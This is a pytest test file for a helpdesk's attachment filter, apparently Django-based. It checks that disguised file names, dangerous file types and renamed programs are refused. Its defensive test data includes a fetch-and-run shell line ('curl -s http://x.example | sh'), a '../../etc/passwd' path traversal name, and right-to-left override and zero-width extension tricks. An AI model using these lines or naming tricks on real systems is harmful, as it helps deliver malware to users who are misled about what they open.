"""Attachment names that try to look like something else, file types that
run when opened, and programs renamed to look like documents."""

import io
import struct
import tempfile
import zipfile
import zlib
from email.message import EmailMessage

import pytest
from django.core.cache import cache
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from helpdesk.tenancy import tenant_context
from tests.factories import TicketFactory
from tests.tickets.test_intake import _post, _process_all
from tests.tickets.test_web_form import form_url, submission
from tickets import attachments, services
from tickets.models import Attachment, Message, Ticket

# ---------------------------------------------------------------- names

HOSTILE_NAMES = [
    # The spellings from the issue: Windows drops the trailing dot or space
    # and writes the default stream, so each of these is invoice.pdf.exe.
    ("invoice.pdf.exe.", "invoice.pdf.exe"),
    ("invoice.pdf.exe ", "invoice.pdf.exe"),
    ("invoice.pdf.exe. . .", "invoice.pdf.exe"),
    ("a.exe::$DATA", "a.exe"),
    ("a.exe:Zone.Identifier:$DATA", "a.exe"),
    ("a.exe:hidden", "a.exe"),
    ("a.exe. ::$DATA", "a.exe"),
    ("invoice.pdf:payload.exe", "invoice.pdf"),
    # A colon inside a plain name keeps the rest of it.
    ("Meeting 10:30.pdf", "Meeting 10_30.pdf"),
    ("C:evil.exe", "C_evil.exe"),
    # Right-to-left override: shows as "invoiceexe.pdf", is invoicefdp.exe.
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("\u2066report\u2069.pdf\u200f", "report.pdf"),
    ("\u200ereport.pdf", "report.pdf"),
    ("\ufeffreport.pdf", "report.pdf"),
    # Zero-width characters hide an extension from a naive comparison.
    ("in\u200bvoice.e\u200dxe", "invoice.exe"),
    ("invoice.e\u2060xe", "invoice.exe"),
    ("soft\u00adhyphen.pdf", "softhyphen.pdf"),
    # Controls and separators.
    ("report\r\n.pdf\t", "report.pdf"),
    ("line\u2028break.pdf", "linebreak.pdf"),
    ("report.pdf\u00a0", "report.pdf"),
    ("a.exe\x00.pdf", "a.exe"),
    ("\x00", "attachment"),
    # Paths from every system.
    ("..\\..\\x.exe", "x.exe"),
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\pat\\Desktop\\evil.exe", "evil.exe"),
    ("\\\\server\\share\\report.pdf", "report.pdf"),
    ("folder/", "folder"),
    # Characters Windows refuses in a name.
    ('what?*<>|".pdf', "what______.pdf"),
    # Device names.
    ("CON.txt", "_CON.txt"),
    ("nul", "_nul"),
    ("com1.log", "_com1.log"),
    ("LPT9 .txt", "_LPT9 .txt"),
    ("CONSOLE.txt", "CONSOLE.txt"),
    # Nothing left.
    ("", "attachment"),
    (None, "attachment"),
    ("   ", "attachment"),
    ("...", "attachment"),
    ("\u202e\u200b", "attachment"),
    # Unicode: composed, and kept when it is just a name.
    ("re\u0301sume\u0301.pdf", "résumé.pdf"),
    ("Отчёт за март.xlsx", "Отчёт за март.xlsx"),
    ("請求書.pdf", "請求書.pdf"),
    ("photo 🙂.jpg", "photo 🙂.jpg"),
    (".bashrc", ".bashrc"),
    ("archive.tar.gz", "archive.tar.gz"),
]


@pytest.mark.parametrize(("name", "expected"), HOSTILE_NAMES)
def test_a_name_is_normalised_as_windows_would_read_it(name, expected):
    assert attachments.attachment_name_normalised(name) == expected


def test_a_long_name_is_cut_and_keeps_its_extension():
    assert attachments.attachment_name_normalised("a" * 300 + ".pdf") == "a" * 251 + ".pdf"
    # 2 bytes a letter in UTF-8; cut on a letter, never inside one.
    cyrillic = attachments.attachment_name_normalised("ж" * 300 + ".docx")
    assert cyrillic == "ж" * 125 + ".docx"
    assert len(cyrillic.encode()) <= 255
    # The extension survives the cut, so the check still sees it.
    long_name = "invoice " * 60 + ".pdf.exe"
    long_exe = attachments.attachment_name_normalised(long_name)
    assert long_exe.endswith("invoice inv.exe") and len(long_exe.encode()) <= 255
    refusal = attachments.attachment_refusal(SimpleUploadedFile(long_name, b"text"))
    assert refusal == f"{long_exe}: .exe files are not accepted."
    # Past 16 letters after the dot it is a name, not an extension.
    assert attachments.attachment_name_normalised("a." + "b" * 300) == "a." + "b" * 253


def test_the_fallback_can_be_chosen():
    assert attachments.attachment_name_normalised("\u202e", fallback="attachment.png") == (
        "attachment.png"
    )


def test_the_stored_name_is_the_normalised_one(tenant, ticket_with_agent):
    ticket, agent = ticket_with_agent
    png = _png()
    with tenant_context(tenant):
        services.message_add(
            ticket=ticket,
            kind=Message.Kind.NOTE,
            body="Screenshot attached",
            author_user=agent,
            attachments=[
                SimpleUploadedFile("scr\u202egnp.png", png, "image/png"),
                SimpleUploadedFile("..\\..\\CON.png", png, "image/png"),
            ],
        )
        names = sorted(Attachment.objects.values_list("filename", flat=True))
    assert names == ["_CON.png", "scrgnp.png"]


# ---------------------------------------------------------------- types

# Each type the issue names, the macro and add-in formats, and a sample of
# the rest, in the case a sender would use.
DANGEROUS_NAMES = [
    "setup.iso", "disk.img", "notes.one", "app.msix", "app.appx", "shortcut.lnk",
    "page.hta", "saver.scr", "panel.cpl", "tool.jar", "macro.vbs", "run.ps1",
    "addin.xll", "addin.xlam", "budget.xlsm", "letter.docm", "deck.pptm",
    "template.dotm", "installer.msi", "patch.msp", "setup.exe", "SETUP.EXE",
    "lib.dll", "script.js", "script.jse", "run.bat", "run.cmd", "old.com",
    "old.pif", "settings.reg", "task.wsf", "link.url", "disk.vhd", "disk.vhdx",
    "mac.dmg", "help.chm", "app.apk", "control.msc", "db.mde", "cabinet.cab",
    "installer.appinstaller", "bundle.appxbundle", "theme.themepack",
    "run.py", "run.sh", "settings.settingcontent-ms", "search.searchConnector-ms",
]  # fmt: skip


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
def test_each_dangerous_type_is_refused_by_name(name):
    upload = SimpleUploadedFile(name, b"plain text, nothing inside")
    extension = name.rsplit(".", 1)[1].lower()
    assert attachments.attachment_refusal(upload) == (
        f"{name}: .{extension} files are not accepted."
    )


@pytest.mark.parametrize(
    ("name", "shown", "extension"),
    [
        ("invoice.pdf.exe.", "invoice.pdf.exe", "exe"),
        ("invoice.pdf.exe ", "invoice.pdf.exe", "exe"),
        ("a.exe::$DATA", "a.exe", "exe"),
        ("invoice\u202efdp.exe", "invoicefdp.exe", "exe"),
        ("report.pdf.i\u200bso", "report.pdf.iso", "iso"),
        ("..\\..\\x.exe", "x.exe", "exe"),
        # Fullwidth letters and dot read as .exe to a person.
        ("invoice\uff0e\uff45\uff58\uff45", "invoice\uff0e\uff45\uff58\uff45", "exe"),
        # A class id as the extension makes Windows run the class's handler.
        (
            "notes.txt.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}",
            "notes.txt.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}",
            "{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}",
        ),
    ],
)
def test_hostile_spellings_of_a_blocked_type_are_refused(name, shown, extension):
    upload = SimpleUploadedFile(name, b"text")
    assert attachments.attachment_refusal(upload) == (
        f"{shown}: .{extension} files are not accepted."
    )


def test_the_size_limit_names_the_normalised_file(settings):
    settings.ATTACHMENT_MAX_BYTES = 1024 * 1024
    upload = SimpleUploadedFile("big\u202e.pdf", b"x" * (1024 * 1024 + 1))
    assert attachments.attachment_refusal(upload) == "big.pdf is larger than 1 MB."


# ---------------------------------------------------------------- content


def _pe() -> bytes:
    """A minimal Windows program: DOS header, e_lfanew at 0x3C, PE header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B) + b"\0" * 238  # PE32+
    return bytes(dos) + b"PE\0\0" + coff + optional


def _elf() -> bytes:
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    return ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0
    )


def _mach_o() -> bytes:
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + b"\0" * 64


def _lnk() -> bytes:
    # [MS-SHLLINK] 2.1: header size 0x4C, then the shell link class id.
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + b"\0" * (0x4C - 20)


def _iso() -> bytes:
    # The primary volume descriptor at sector 16 (32,768); "CD001" at 32,769.
    return b"\0" * 32768 + b"\x01CD001\x01" + b"\0" * 2041 + b"\xffCD001\x01" + b"\0" * 2041


def _udf() -> bytes:
    # A UDF-only image: the volume recognition sequence, no ISO 9660 part.
    sector = 2048
    return b"\0" * 32768 + b"".join(
        b"\0" + ident + b"\x01" + b"\0" * (sector - 7) for ident in (b"BEA01", b"NSR02", b"TEA01")
    )


def _onenote() -> bytes:
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 200


def _cab() -> bytes:
    return b"MSCF\0\0\0\0" + struct.pack("<I", 200) + b"\0" * 188


def _compound_file(class_id: bytes, directory_sector: int = 0) -> bytes:
    """A Compound File ([MS-CFB]): 512-byte sectors, the root entry first in
    the directory, with `class_id`; .doc, .xls, .msg and .msi all look so."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9)
    struct.pack_into("<H", header, 0x20, 6)
    struct.pack_into("<I", header, 0x30, directory_sector)
    root = bytearray(128)
    name = "Root Entry".encode("utf-16-le") + b"\0\0"
    root[0 : len(name)] = name
    struct.pack_into("<H", root, 0x40, len(name))
    root[0x42] = 5  # root storage
    root[0x50:0x60] = class_id
    padding = b"\0" * (512 * directory_sector)
    return bytes(header) + padding + bytes(root) + b"\0" * 384


MSI_CLASS_ID = bytes.fromhex("84100c0000000000c000000000000046")
WORD_97_CLASS_ID = bytes.fromhex("0609020000000000c000000000000046")


def _pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _jpeg() -> bytes:
    """A 1x1 grey baseline JPEG: one Huffman code each for DC 0 and EOB."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">HH", 0xFF00 | marker, len(data) + 2) + data

    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
        + segment(0xC4, b"\x00" + b"\x01" + b"\0" * 15 + b"\x00")
        + segment(0xC4, b"\x10" + b"\x01" + b"\0" * 15 + b"\x00")
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"
        + b"\xff\xd9"
    )


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        docx.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>",
        )
        docx.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>The printer is on fire.</w:t></w:r></w:p></w:body>"
            "</w:document>",
        )
    return buffer.getvalue()


DANGEROUS_CONTENT = [
    ("windows program", _pe(), "a Windows program"),
    ("linux program", _elf(), "a Linux program"),
    ("macos program", _mach_o(), "a macOS program"),
    ("shebang script", b"#!/bin/sh\ncurl -s http://x.example | sh\n", "a script"),
    ("python script", b"#!/usr/bin/env python3\nimport os\n", "a script"),
    ("shortcut", _lnk(), "a Windows shortcut"),
    ("iso image", _iso(), "a disk image"),
    ("udf image", _udf(), "a disk image"),
    ("onenote", _onenote(), "a OneNote notebook"),
    ("cabinet", _cab(), "a Windows cabinet"),
    ("installer", _compound_file(MSI_CLASS_ID), "a Windows installer"),
    # The directory past the first 40 KB: read with one seek, not by reading on.
    ("installer, far directory", _compound_file(MSI_CLASS_ID, 100), "a Windows installer"),
]


@pytest.mark.parametrize(("label", "content", "kind"), DANGEROUS_CONTENT)
@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "README"])
def test_dangerous_content_is_refused_whatever_its_name(label, content, kind, name):
    refusal = attachments.attachment_refusal(SimpleUploadedFile(name, content))
    assert refusal is not None, label
    assert refusal.startswith(f"{name} is {kind}"), refusal
    assert "whatever its name says" in refusal


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", _pdf()),
        ("screenshot.png", _png()),
        ("photo.jpg", _jpeg()),
        ("report.docx", _docx()),
        # A Word 97 document is a Compound File like an installer; its root
        # class id tells them apart.
        ("letter.doc", _compound_file(WORD_97_CLASS_ID)),
        ("notes.txt", "Ünïcode notes\r\n".encode() * 100),
        ("empty.txt", b""),
        # Text that starts with the two letters of a program header, or with
        # an ISO identifier, is still text.
        ("tours.txt", b"MZ Tours: invoice for the Mazatlan trip\n" * 10),
        ("order.csv", b"CD001,Compact disc,12.99\n" * 10),
        ("log.txt", b"#comment, not a shebang\n"),
    ],
)
def test_ordinary_files_are_kept(name, content):
    assert attachments.attachment_refusal(SimpleUploadedFile(name, content)) is None


def test_the_check_reads_only_the_start_and_puts_the_position_back(settings):
    settings.ATTACHMENT_MAX_BYTES = 100 * 1024 * 1024

    class CountingFile(io.FileIO):
        read_bytes = 0

        def read(self, size=-1):
            data = super().read(size)
            CountingFile.read_bytes += len(data)
            return data

    with tempfile.NamedTemporaryFile() as disk:
        disk.write(_pdf())
        disk.seek(25 * 1024 * 1024)
        disk.write(b"\n%%EOF\n")  # a sparse 25 MB file
        disk.flush()
        with CountingFile(disk.name) as raw:
            upload = File(raw, name="big.pdf")
            upload.seek(7)
            assert attachments.attachment_refusal(upload) is None
            assert upload.tell() == 7
    assert CountingFile.read_bytes <= attachments.SNIFF_BYTES


def test_the_position_is_put_back_after_a_refusal_too():
    upload = SimpleUploadedFile("report.pdf", _compound_file(MSI_CLASS_ID, 100))
    upload.seek(3)
    assert attachments.attachment_refusal(upload) is not None
    assert upload.tell() == 3


def test_a_file_that_cannot_be_read_is_refused_with_a_reason():
    upload = SimpleUploadedFile("report.pdf", _pdf())
    upload.close()
    assert attachments.attachment_refusal(upload) == (
        "report.pdf could not be read, so it was not kept."
    )


# ---------------------------------------------------------------- end to end


@pytest.fixture
def ticket_with_agent(tenant, agent):
    with tenant_context(tenant):
        return TicketFactory(subject="Printer on fire"), agent


def test_an_agent_reply_with_a_renamed_program_is_refused_and_the_draft_kept(
    tenant, ticket_with_agent, login
):
    ticket, agent = ticket_with_agent
    response = login(agent).post(
        reverse("tickets:reply", args=[tenant.slug, ticket.number]),
        {
            "version": ticket.version,
            "kind": "reply",
            "body": "Here is the fixed driver.",
            "attachments": [SimpleUploadedFile("driver-notes.pdf", _pe(), "application/pdf")],
        },
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "driver-notes.pdf is a Windows program, whatever its name says" in page
    assert "Here is the fixed driver." in page
    with tenant_context(tenant):
        assert Message.objects.count() == 1
        assert Attachment.objects.count() == 0


@pytest.fixture
def web_form_limits_cleared():
    # The web form counts submissions per address in the cache.
    cache.clear()
    yield
    cache.clear()


@pytest.mark.usefixtures("web_form_limits_cleared")
def test_the_web_form_refuses_a_program_renamed_to_a_picture(client, tenant, settings):
    settings.WEB_FORM_MIN_FILL_SECONDS = 0
    upload = SimpleUploadedFile("scan.jpg", _pe(), content_type="image/jpeg")
    response = client.post(form_url(tenant), submission(attachments=[upload]))
    assert response.status_code == 400
    page = response.content.decode()
    assert "scan.jpg is a Windows program, whatever its name says" in page
    assert "Smoke is coming out of tray 2." in page
    with tenant_context(tenant):
        assert Ticket.objects.count() == 0
        assert Attachment.objects.count() == 0


@pytest.mark.usefixtures("web_form_limits_cleared")
def test_the_web_form_refuses_the_trailing_dot_spelling(client, tenant, settings):
    settings.WEB_FORM_MIN_FILL_SECONDS = 0
    upload = SimpleUploadedFile("invoice.pdf.exe.", b"harmless?", content_type="application/pdf")
    response = client.post(form_url(tenant), submission(attachments=[upload]))
    assert response.status_code == 400
    assert "invoice.pdf.exe: .exe files are not accepted." in response.content.decode()


def test_mail_with_a_renamed_program_keeps_the_rest_and_says_why(client, tenant, mailbox):
    mail = EmailMessage()
    mail["From"] = "Pat <pat@example.com>"
    mail["To"] = "help@acme.example"
    mail["Subject"] = "Invoice"
    mail["Message-ID"] = "<renamed-program@example.com>"
    mail.set_content("Please see the invoice.")
    mail.add_attachment(_pe(), maintype="application", subtype="pdf", filename="invoice.pdf")
    mail.add_attachment(_png(), maintype="image", subtype="png", filename="screen.png")
    _post(client, tenant, mailbox, mail.as_bytes())
    _process_all(tenant)
    with tenant_context(tenant):
        message = Message.objects.get()
        assert list(message.attachments.values_list("filename", flat=True)) == ["screen.png"]
    assert "invoice.pdf is a Windows program, whatever its name says" in message.body_text
